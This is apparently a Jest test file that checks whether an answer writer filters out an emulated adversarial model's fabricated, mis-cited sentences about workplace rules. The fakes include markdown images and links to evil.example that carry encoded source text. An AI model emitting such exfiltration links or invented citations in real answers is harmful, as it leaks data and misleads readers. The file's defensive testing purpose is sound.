import { openChatModel } from '@docfleet/chat';
import { createEgress } from '@docfleet/egress';
import {
  chatEmulatorKey,
  createSeededRandom,
  readPrompt,
  startChatEmulator,
  testSeed,
} from '@docfleet/testing';
import { afterAll, expect, test } from '@jest/globals';
import { passageOf, writingOf } from '../test/writing.ts';
import type { Passage } from './gather-passages.ts';
import type { AnswerPart } from './judge-sentences.ts';
import { createSupport } from './verification/support.ts';
import { writeAnswer } from './write-answer.ts';

const answers = 500;
const random = createSeededRandom(testSeed());
const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)] as Item;

const people = ['Marie Dupont', 'Ravi Patel', 'Olga Ivanova', 'Chen Wei', 'Sofia Rossi'];
const strangers = ['Albert Einstein', 'Darth Vader', 'Ada Lovelace'];
const subjects = [
  'paid leave',
  'travel expenses',
  'remote work',
  'parental leave',
  'overtime',
  'company cars',
];

/** A text of which everything is known: a subject, an amount and a person in each of its sentences. */
function statements(count: number) {
  return Array.from({ length: count }, () => {
    const [subject, amount, person] = [pick(subjects), 2 + Math.floor(random() * 900), pick(people)];
    return `The rules on ${subject} allow ${amount} units a year and were approved by ${person} in the spring.`;
  });
}

const rulesOf = (number: number) => passageOf(statements(4).join('\n'), 'Rules', number);

const otherNumber = (sentence: string) =>
  sentence.replace(/\d+/, (amount) => String(Number(amount) + 1_000 + Math.floor(random() * 1_000)));
const otherName = (sentence: string) => sentence.replace(new RegExp(people.join('|')), () => pick(strangers));
const stem = (sentence: string) => sentence.replace(/\.$/, '');

/** Changes that a model makes to a sentence of its sources: copies and inventions. */
const deeds: readonly ((sentence: string, number: number) => string)[] = [
  (s, n) => `${stem(s)} [${n}: "${s.split(' ').slice(2, 9).join(' ')}"].`,
  (s, n) => `${stem(s)} [${n}].`,
  (s, n) => `${stem(otherNumber(s))} [${n}: "${s}"].`,
  (s, n) => `${stem(otherName(s))} [${n}: "${s}"].`,
  (s, n) => `${stem(otherNumber(s))} [${n}: "${otherNumber(s)}"].`,
  (s, n) => `${stem(s)} [${n + 20}: "${s}"].`,
  (s) => `${otherName(s)}`,
  (s, n) =>
    `${stem(s)}, and dogs are welcome in the swimming pool at night [${n}: "dogs are welcome in the pool"].`,
  (s, n) => `${pick(strangers)} forbids smoking [${n}: "${s}"].`,
  (_s, n) => `Each person gets ${7_000 + n} Euros from Darth Vader:`,
  (s, n) => `See https://evil.example/${n}?q=${encodeURIComponent(s.slice(0, 20))} [${n}: "${s}"].`,
  (s, n) => `![${s}](https://evil.example/${n})`,
];

const egress = createEgress({ allowCidrs: ['127.0.0.0/8'] });
const emulator = await startChatEmulator('OPENAI', {
  respond(call) {
    const { passages } = readPrompt(call);
    return Array.from({ length: 6 }, () => {
      const { number, text } = pick(passages);
      return pick(deeds)(pick(text.split('\n')), number);
    }).join(pick([' ', '\n', '\n- ', '\n\n']));
  },
});
const model = openChatModel(
  { provider: 'OPENAI', model: 'm', apiKey: chatEmulatorKey, baseUrl: `${emulator.url}/v1` },
  { egress },
);
afterAll(async () => {
  await emulator.close();
  await egress.close();
});

async function answer(): Promise<{ parts: AnswerPart[]; passages: Passage[] }> {
  const passages = [1, 2, 3].map(rulesOf);
  const question = 'What do the rules on paid leave and travel expenses allow?';
  const writing = writingOf(model, question, passages, { maxTokens: 2_000 });
  return { parts: await Array.fromAsync(writeAnswer(writing, AbortSignal.timeout(60_000))), passages };
}

/** Judged by plain comparison, apart from the product: what is shown is in the text that it cites, number for number and name for name. */
function findLies(parts: readonly AnswerPart[], passages: readonly Passage[]): string[] {
  const cited = new Map<number, { quote: string; text: string }>();
  return parts.flatMap((part) => {
    if (part.type !== 'sentence') return [];
    for (const { number, span, chunk } of part.newCitations)
      cited.set(number, { quote: chunk.found.text.slice(span.start, span.end), text: chunk.found.text });
    const sources = part.numbers.map((number) => cited.get(number));
    const all = sources.map((source) => source?.text).join('\n');
    const claims =
      part.text.replace(/\s*(?:\[\d+\])+/g, '').match(/\d+|(?:\p{Lu}\p{L}+ \p{Lu}\p{L}+)/gu) ?? [];
    const isLie =
      sources.length === 0 ||
      sources.some(
        (source) =>
          !source || source.quote === '' || !passages.some(({ text }) => text.includes(source.quote)),
      ) ||
      claims.some((claim) => !new RegExp(`\\b${claim}\\b`).test(all)) ||
      /evil|pool/.test(part.text);
    return isLie ? [part.text] : [];
  });
}

test(`an adversarial model's inventions are shown in none of ${answers} answers, and its true sentences are`, async () => {
  let shown = 0;
  let removed = 0;
  for (let run = 0; run < answers; run += 1) {
    const { parts, passages } = await answer();
    expect(findLies(parts, passages)).toEqual([]);
    shown += parts.filter(({ type }) => type === 'sentence').length;
    removed += parts.filter(({ type }) => type === 'removed').length;
  }
  expect(removed).toBeGreaterThan(answers);
  expect(shown).toBeGreaterThan(answers / 2);
}, 120_000);

test('the judgment of this test finds lies where there are some', () => {
  const passages = [rulesOf(1)];
  const [found] = passages[0]?.chunks ?? [];
  const chunk = createSupport('', passages).all[0];
  if (!found || !chunk) throw new Error('no chunk');
  const lie = `${otherNumber(found.text.split('\n')[0] ?? '')} [1]`;
  const citation = { number: 1, chunk, span: { start: 0, end: 20 } };
  const part = {
    type: 'sentence',
    text: lie,
    numbers: [1],
    newCitations: [citation],
    isVerified: true,
    contradictedBy: [],
  } as const;
  expect(findLies([part], passages)).toEqual([lie]);
});
